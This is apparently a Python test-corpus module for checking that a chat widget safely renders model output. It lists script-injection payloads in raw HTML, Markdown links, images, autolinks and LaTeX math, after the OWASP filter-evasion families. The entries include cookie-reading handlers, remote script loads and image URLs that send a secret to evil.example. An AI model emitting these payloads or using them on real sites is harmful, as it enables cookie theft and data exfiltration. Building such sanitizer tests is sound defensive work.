"""Script-injection payloads that model output could carry, as Markdown source.

Written for this project after the families in the OWASP XSS Filter Evasion Cheat Sheet
(https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html) plus
the Markdown-specific tricks (link and image destinations, autolinks, reference links).
A plain list so that a browser test can feed the same corpus to the real widget.
"""

from __future__ import annotations

PAYLOADS: list[str] = [
    # script elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
    '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.example/xss.js?< B >",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    # event handlers
    '<a onmouseover="alert(document.cookie)">link</a>',
    "<IMG SRC=# onmouseover=\"alert('xss')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)">',
    "<img src=x onerror=&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041>",
    # javascript: URLs in raw HTML, obfuscated
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;"
    "&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72"
    "&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    '<form action="javascript:alert(1)"><button>x</button></form>',
    # svg / math
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    # frames, objects, embeds
    "<iframe src=http://xss.example/scriptlet.html <",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>',
    '<object data="javascript:alert(1)">',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" '
    'type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    # style
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    '<div style="x:\\65xpression(alert(1))">',
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    # meta, base, data:
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,'
    'PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    # Markdown links
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1))",
    "[x](java%0ascript:alert(1))",
    "[x](  javascript:alert(1)  )",
    "[x](<javascript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    '[x](javascript:alert(1) "title")',
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    '[x](https://ok.example "t\\" onmouseover=\\"alert(1)")',
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    "[x](https://ok.example)<script>alert(1)</script>",
    # Markdown images: script URLs and remote (exfiltration) URLs
    "![x](javascript:alert(1))",
    "![x](https://evil.example/collect?q=SECRET)",
    "![x](//evil.example/collect?q=SECRET)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x" onerror="alert(1)](https://evil.example/a.png)',
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    # autolinks
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    '<https://evil.example/" onmouseover="alert(1)>',
    "<data:text/html,<script>alert(1)</script>>",
    'https://evil.example/"><script>alert(1)</script>',
    "www.evil.example/<script>alert(1)</script>",
    # reference links and images
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x]\n\n[x]: JaVaScRiPt:alert(1)",
    "![x][r]\n\n[r]: https://evil.example/pixel.png",
    # inside code: must stay text
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```\n<img src=x onerror=alert(1)>",
    "``<iframe src=javascript:alert(1)>",
    # inside other blocks
    "**<script>**alert(1)",
    "- [x] <input onfocus=alert(1) autofocus>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    '> <iframe src="javascript:alert(1)">',
    "# <svg onload=alert(1)>",
    # LaTeX math: converted to MathML, whose commands can carry links, styles and text
    "$\\href{javascript:alert(1)}{click me}$",
    "$$\\style{position:fixed;top:0;left:0;width:100vw;height:100vh}{x}$$",
    "\\(\\class{jp-Dialog}{x}\\)",
    "\\[\\color{javascript:alert(1)}{x}\\]",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "\\[\\text{<script>alert(1)</script>}\\]",
    "$a<b onmouseover=alert(1)>c$",
    "$\\mathrm{</math><img src=x onerror=alert(1)>}$",
    "$$<svg onload=alert(1)>$$",
    "\\(<iframe src=javascript:alert(1)>\\)",
]
